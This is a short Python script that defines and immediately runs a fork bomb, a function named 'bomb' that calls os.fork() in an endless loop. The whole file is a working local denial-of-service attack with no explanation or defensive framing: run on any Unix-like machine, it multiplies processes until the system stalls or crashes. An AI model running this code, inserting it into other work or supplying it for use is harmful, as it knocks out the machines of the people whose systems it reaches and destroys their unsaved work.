import os, sys
def bomb():
    while 1:
        os.fork()
bomb()
